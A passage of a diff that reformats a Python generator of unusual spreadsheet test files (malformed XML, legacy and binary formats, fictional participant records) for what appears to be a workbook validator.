     )
-    odd("emoji.xlsx", "letters beyond the first 65,536", coverage([*ROWS[0][:4], "👩‍👩‍👧 𝔊ℭ𝔐 🇸🇾"], ROWS[1]), "letters_without_glyph@E2")
-    odd("half-letters.xlsx", "half a letter in the XML", sheet1(worksheet(COVERAGE).replace("report", "&#xD800;")), UNREADABLE)
-    odd("nul-letter.xlsx", "a NUL in the XML", sheet1(worksheet(COVERAGE).replace("report", "&#0;")), UNREADABLE)
+    odd(
+        "emoji.xlsx",
+        "letters beyond the first 65,536",
+        coverage([*ROWS[0][:4], "👩‍👩‍👧 𝔊ℭ𝔐 🇸🇾"], ROWS[1]),
+        "letters_without_glyph@E2",
+    )
+    odd(
+        "half-letters.xlsx",
+        "half a letter in the XML",
+        sheet1(worksheet(COVERAGE).replace("report", "&#xD800;")),
+        UNREADABLE,
+    )
+    odd(
+        "nul-letter.xlsx",
+        "a NUL in the XML",
+        sheet1(worksheet(COVERAGE).replace("report", "&#0;")),
+        UNREADABLE,
+    )
     odd(
         "escaped-controls.xlsx",
         "control characters, escaped as Excel does it",
@@ -1355,7 +2049,11 @@ def values() -> None:
         coverage(
             [
                 *ROWS[0][:4],
-                Raw(' t="inlineStr"', '<is><r><rPr><b/></rPr><t>re</t></r><r><t>port</t></r><rPh sb="0" eb="1"><t>aid</t></rPh></is>'),
+                Raw(
+                    ' t="inlineStr"',
+                    '<is><r><rPr><b/></rPr><t>re</t></r><r><t>port</t></r><rPh sb="0" '
+                    'eb="1"><t>aid</t></rPh></is>',
+                ),
             ],
             ROWS[1],
         ),
@@ -1374,7 +2072,13 @@ def values() -> None:
         ),
         rows="progress 2/0",
     )
-    odd("percent.xlsx", "a headcount as a percentage", people(Raw(' s="2"', "<v>0.27</v>"), 27), "not_a_number@D2", "participants 1/1")
+    odd(
+        "percent.xlsx",
+        "a headcount as a percentage",
+        people(Raw(' s="2"', "<v>0.27</v>"), 27),
+        "not_a_number@D2",
+        "participants 1/1",
+    )
 
 
 def persons() -> None:
@@ -1401,8 +2105,24 @@ def persons() -> None:
         xlsx(
             {
                 "المشاركون": [
-                    ["رمز الفعالية", "الدولة", "الفئة", "الاسم الكامل", "البريد الإلكتروني", "رقم الهاتف", "رقم جواز السفر"],
-                    ["w1", "سورية", "حكومة", "ليلى الكورنية", "layla@quorn.example", "٠٠٩٦١١٠٠٠١١١", "RL0000111"],
+                    [
+                        "رمز الفعالية",
+                        "الدولة",
+                        "الفئة",
+                        "الاسم الكامل",
+                        "البريد الإلكتروني",
+                        "رقم الهاتف",
+                        "رقم جواز السفر",
+                    ],
+                    [
+                        "w1",
+                        "سورية",
+                        "حكومة",
+                        "ليلى الكورنية",
+                        "layla@quorn.example",
+                        "٠٠٩٦١١٠٠٠١١١",
+                        "RL0000111",
+                    ],
                 ]
             }
         ),
@@ -1428,7 +2148,9 @@ def persons() -> None:
                     [*heads, "Who", "Contact", "Doc"],
                     *(
                         [*row, name, f"p{n}@quorn.example", f"RL000011{n}"]
-                        for n, name in enumerate(("Layla Quorn", "Omar Vesper", "Ahmad Tarn", "Fatima Mott", "Sami Vull"))
+                        for n, name in enumerate(
+                            ("Layla Quorn", "Omar Vesper", "Ahmad Tarn", "Fatima Mott", "Sami Vull")
+                        )
                     ),
                 ]
             }
@@ -1444,7 +2166,12 @@ def persons() -> None:
                 "participants": [
                     [*heads, "note"],
                     [*row, "arrives late"],
-                    ["w1", "TUN", "government", "write to layla@quorn.example or call +961 1 000 111"],
+                    [
+                        "w1",
+                        "TUN",
+                        "government",
+                        "write to layla@quorn.example or call +961 1 000 111",
+                    ],
                     ["w1", "LBN", "media", "passport RL0000111"],
                 ]
             }
@@ -1458,7 +2185,16 @@ def persons() -> None:
             {
                 "participants": [
                     [*heads, "organisation"],
-                    *([*row, name] for name in ("Layla Hassan", "Omar Said", "Ahmad Tarn", "Fatima Mott", "Sami Vull")),
+                    *(
+                        [*row, name]
+                        for name in (
+                            "Layla Hassan",
+                            "Omar Said",
+                            "Ahmad Tarn",
+                            "Fatima Mott",
+                            "Sami Vull",
+                        )
+                    ),
                 ]
             }
         ),
@@ -1509,7 +2245,12 @@ def formats() -> None:
     odd("old.xls", "an old workbook", OLD)
     lookalike = struct.unpack("<d", b"\x00\x02\x0e\x00\x00\x00\x3b\x40")[0]
     ratios = xls({"coverage": [[*HEADERS, "ratio"], [*ROWS[0], lookalike], [*ROWS[1], 1]]})
-    odd("lookalike.xls", "an old workbook with a number whose bytes look like a claim of cells", ratios, "unknown_column@F1")
+    odd(
+        "lookalike.xls",
+        "an old workbook with a number whose bytes look like a claim of cells",
+        ratios,
+        "unknown_column@F1",
+    )
     odd("open.ods", "an OpenDocument file", OPEN)
     odd("binary.xlsb", "a binary workbook", xlsb({"coverage": COVERAGE}))
     odd("macro-free.xlsm", "an .xlsm without macros", GOOD)
@@ -1519,9 +2260,9 @@ def formats() -> None:
     prefixed[SHEET1] = prefix(prefixed[SHEET1].decode()).encode()
     odd("prefixed.xlsx", "tags with a prefix", zipped(prefixed))
     strict = {
-        name: content.replace(MAIN.encode(), b"http://purl.oclc.org/ooxml/spreadsheetml/main").replace(
-            RELATIONS.encode(), b"http://purl.oclc.org/ooxml/officeDocument/relationships"
-        )
+        name: content.replace(
+            MAIN.encode(), b"http://purl.oclc.org/ooxml/spreadsheetml/main"
+        ).replace(RELATIONS.encode(), b"http://purl.oclc.org/ooxml/officeDocument/relationships")
         for name, content in parts({"coverage": COVERAGE}).items()
     }
     odd("strict.xlsx", "the strict form of the standard", zipped(strict))
@@ -1530,16 +2271,33 @@ def formats() -> None:
         "sheets named from the root of the archive",
         with_part(
             "xl/_rels/workbook.xml.rels",
-            parts({"coverage": COVERAGE})["xl/_rels/workbook.xml.rels"].replace(b'Target="worksheets', b'Target="/xl/worksheets'),
+            parts({"coverage": COVERAGE})["xl/_rels/workbook.xml.rels"].replace(
+                b'Target="worksheets', b'Target="/xl/worksheets'
+            ),
         ),
     )
     odd("sheet-elsewhere.xlsx", "a sheet in a folder of another name", elsewhere())
-    odd("utf-16-parts.xlsx", "a sheet's XML in UTF-16", sheet1(worksheet(COVERAGE).replace("UTF-8", "UTF-16").encode("utf-16")), UNREADABLE)
-    odd("bom-parts.xlsx", "a sheet's XML with a byte order mark", sheet1(worksheet(COVERAGE).encode("utf-8-sig")))
+    odd(
+        "utf-16-parts.xlsx",
+        "a sheet's XML in UTF-16",
+        sheet1(worksheet(COVERAGE).replace("UTF-8", "UTF-16").encode("utf-16")),
+        UNREADABLE,
+    )
+    odd(
+        "bom-parts.xlsx",
+        "a sheet's XML with a byte order mark",
+        sheet1(worksheet(COVERAGE).encode("utf-8-sig")),
+    )
     odd(
         "target-missing.xlsx",
         "a second sheet that is not there",
-        zipped({k: v for k, v in parts({"coverage": COVERAGE, "more": []}).items() if "sheet2" not in k}),
+        zipped(
+            {
+                k: v
+                for k, v in parts({"coverage": COVERAGE, "more": []}).items()
+                if "sheet2" not in k
+            }
+        ),
         UNREADABLE,
     )
     odd("no-sheets.xlsx", "a workbook without sheets", xlsx({}), "no_table@")
@@ -1554,7 +2312,11 @@ def formats() -> None:
             )
         ),
     )
-    odd("columns-after-z.xlsx", "the table begins in column AA", xlsx({"coverage": [[None] * 26 + row for row in COVERAGE]}))
+    odd(
+        "columns-after-z.xlsx",
+        "the table begins in column AA",
+        xlsx({"coverage": [[None] * 26 + row for row in COVERAGE]}),
+    )
 
 
 def prefix(xml: str) -> str:
@@ -1565,7 +2327,9 @@ def elsewhere() -> bytes:
     book = parts({"coverage": COVERAGE})
     book["xl/tables/the sheet.xml"] = book.pop(SHEET1)
     book["xl/_rels/workbook.xml.rels"] = (
-        book["xl/_rels/workbook.xml.rels"].replace(b"worksheets/sheet1.xml", b"tables/the%20sheet.xml").replace(b"%20", b" ")
+        book["xl/_rels/workbook.xml.rels"]
+        .replace(b"worksheets/sheet1.xml", b"tables/the%20sheet.xml")
+        .replace(b"%20", b" ")
     )
     return zipped(book)
 
